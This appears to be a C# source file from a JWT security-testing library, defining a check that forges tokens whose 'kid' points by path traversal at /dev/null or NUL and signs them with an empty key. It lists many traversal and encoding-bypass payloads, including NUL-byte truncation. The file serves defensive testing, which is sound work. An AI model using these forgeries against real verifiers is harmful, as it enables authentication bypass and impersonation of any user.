using System.Text;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The kid is a path to the null device: a verifier that reads its key from the file of that name reads nothing, and nothing is
/// the key. RFC 8725 3.10.
/// </summary>
internal sealed class KidTraversalNull : JwtAttack
{
    public override string Id => "CRY1074";

    public override JwtFamily Family => JwtFamily.KeyIdInjection;

    public override IReadOnlyList<int> Cwe => [22, 73];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 9.1.3"];

    public override string Cause => "reads its key from the file that kid names, and accepted the empty one of /dev/null";

    public override string Why => "whoever chooses the file chooses the key, so anyone can become anyone";

    public override string Fix =>
        "look kid up in a dictionary of the keys you trust (IssuerSigningKeys); never build a path from it";

    internal override IReadOnlyList<string> ExplainedBy => ["CRY1020", "CRY1082"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        foreach (var path in Paths())
        {
            yield return new Forgery(
                HmacJws.SignUnderKid(attacker.Token, path, []),
                $"kid {path.Replace("\0", "(NUL)", StringComparison.Ordinal)}, empty key");
        }
    }

    private static IEnumerable<string> Paths()
    {
        yield return "/dev/null";
        for (var depth = 1; depth <= 12; depth++)
        {
            yield return Up(depth, "../") + "dev/null";
        }

        yield return "NUL";
        yield return Up(12, "..\\") + "dev\\null";
        yield return Up(2, "..\\") + "NUL";
        yield return "file:///dev/null";
        yield return Up(12, "....//") + "dev/null"; // survives one removal of "../"
        yield return Up(12, "%2e%2e%2f") + "dev/null";
        yield return Up(12, "%252e%252e%252f") + "dev/null";
        yield return Up(12, "../") + "dev/null\0.pem"; // the suffix that the verifier appends is cut off
        yield return Up(12, "../") + "dev/null%00.pem";
        yield return Up(12, "../") + "dev/null#";
        yield return Up(12, "../") + "dev/null?";
        yield return "keys/" + Up(12, "../") + "dev/null";
    }

    private static string Up(int depth, string step) => new StringBuilder().Insert(0, step, depth).ToString();
}
